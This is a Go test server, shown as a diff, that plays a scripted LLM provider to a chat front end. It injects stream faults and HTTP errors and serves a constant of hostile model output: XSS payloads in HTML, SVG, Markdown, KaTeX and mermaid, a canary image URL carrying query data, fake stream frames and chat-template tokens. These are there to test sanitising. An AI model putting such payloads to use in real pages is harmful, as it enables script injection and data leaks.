@@ -1,0 +1,127 @@
+// Command serve runs the scripted provider for development and browser tests.
+// A mark in a question, such as [断流], chooses a fault from the table below;
+// every other question gets a page of Markdown after some thinking.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"log"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/wenqu-ai/wenqu/internal/llm/llmtest"
+)
+
+// faults says what each mark does. The first call of a question with it goes
+// wrong and the next succeeds, and so on, so that the way out of a fault can be
+// tried. A 500 goes wrong twice: the first is retried without a word.
+var faults = map[string]func(llmtest.Request) llmtest.Script{
+	"[断流]":  func(r llmtest.Request) llmtest.Script { return half(r).Cut(12, llmtest.Reset) },
+	"[块中断]": func(r llmtest.Request) llmtest.Script { return half(r).Cut(12, llmtest.CutChunk) },
+	"[不答]":  func(r llmtest.Request) llmtest.Script { return half(r).Cut(0, llmtest.Stall) },
+	"[停住]":  func(r llmtest.Request) llmtest.Script { return half(r).Cut(12, llmtest.Stall) },
+	"[空答]":  func(r llmtest.Request) llmtest.Script { return say(r, llmtest.Say{}) },
+	"[429]": func(llmtest.Request) llmtest.Script {
+		return llmtest.Fail(http.StatusTooManyRequests, `{"error":{"message":"rate limited"}}`, "Retry-After", "30")
+	},
+	"[500]": func(llmtest.Request) llmtest.Script {
+		return llmtest.Fail(http.StatusInternalServerError, `{"error":{"message":"broken"}}`)
+	},
+	"[密钥]": func(llmtest.Request) llmtest.Script {
+		return llmtest.Fail(http.StatusUnauthorized, `{"error":{"message":"invalid api key"}}`)
+	},
+	"[网页]": func(llmtest.Request) llmtest.Script {
+		return llmtest.Script{Type: "text/html", Steps: []llmtest.Step{{Send: "<html><body>login</body></html>"}}}
+	},
+	"[截断]": func(r llmtest.Request) llmtest.Script {
+		return say(r, llmtest.Say{Text: llmtest.Pieces("这一段写到一半就到了长度上限，后面还有", 3), Finish: "length"})
+	},
+	"[过滤]": func(r llmtest.Request) llmtest.Script {
+		return say(r, llmtest.Say{Text: llmtest.Pieces("这一段不应该留在页面上", 3), Finish: "content_filter"})
+	},
+}
+
+// scripts are answers that always come out the same.
+var scripts = map[string]func(llmtest.Request) llmtest.Script{
+	"[慢]": func(r llmtest.Request) llmtest.Script { return half(r) },
+	"[攻击]": func(r llmtest.Request) llmtest.Script {
+		return say(r, llmtest.Say{Reasoning: llmtest.Pieces(attack, 7), Text: llmtest.Pieces(attack, 7)})
+	},
+}
+
+// half is an answer that takes some seconds: sixty numbered pieces.
+func half(r llmtest.Request) llmtest.Script {
+	var pieces []string
+	for i := range 60 {
+		pieces = append(pieces, fmt.Sprintf("第%02d句。", i+1))
+	}
+	return say(r, llmtest.Say{Reasoning: []string{"先数一数，", "再一句一句写。"}, Text: pieces, Every: 60 * time.Millisecond})
+}
+
+func say(r llmtest.Request, s llmtest.Say) llmtest.Script {
+	s.Model = r.Model
+	return llmtest.Answer(llmtest.DeepSeek, s)
+}
+
+// attack is what a hostile model may stream. None of it may run, and none of
+// it may call the canary address.
+const attack = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">
+<svg onload="window.__pwned=3"><a xlink:href="javascript:window.__pwned=4">x</a></svg>
+[链接](javascript:window.__pwned=5) [数据](data:text/html,<script>window.__pwned=6</script>)
+[编码](&#106;avascript:window.__pwned=7) ![图](http://canary.invalid/?q=history)
+<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>
+
+$\href{javascript:window.__pwned=9}{点我}$
+
+` + "```mermaid\ngraph TD; A[\"<img src=x onerror=window.__pwned=10>\"]-->B; click A \"javascript:window.__pwned=11\"\n```" + `
+
+data: {"type":"text","msg":"假的帧"}
+
+[DONE] [citation:99] <|im_end|>
+`
+
+func main() {
+	addr := flag.String("addr", "127.0.0.1:8090", "address to listen on")
+	every := flag.Duration("every", 15*time.Millisecond, "pause between the pieces of the standard answer")
+	ollama := flag.Bool("ollama", false, "look like Ollama too")
+	flag.Parse()
+	s := llmtest.New(llmtest.Options{Ollama: *ollama, Every: *every})
+	for mark, script := range scripts {
+		s.OnFunc(mark, script)
+	}
+	for mark, script := range faults {
+		s.OnFunc(mark, everyOther(script, calls(mark)))
+	}
+	log.Printf("scripted provider on http://%s/v1", *addr)
+	log.Fatal(http.ListenAndServe(*addr, s))
+}
+
+func calls(mark string) int {
+	if mark == "[500]" {
+		return 2
+	}
+	return 1
+}
+
+// everyOther plays script at the first bad calls for one question, then a
+// short good answer, and so on.
+func everyOther(script func(llmtest.Request) llmtest.Script, bad int) func(llmtest.Request) llmtest.Script {
+	var mu sync.Mutex
+	calls := map[string]int{}
+	return func(r llmtest.Request) llmtest.Script {
+		if strings.Contains(r.System(), "标题") {
+			return say(r, llmtest.Say{Text: []string{"关于出错"}})
+		}
+		mu.Lock()
+		defer mu.Unlock()
+		n := calls[r.Prompt()]
+		calls[r.Prompt()] = (n + 1) % (bad + 1)
+		if n < bad {
+			return script(r)
+		}
+		return say(r, llmtest.Say{Text: llmtest.Pieces("这一次答完了。", 2)})
+	}
+}
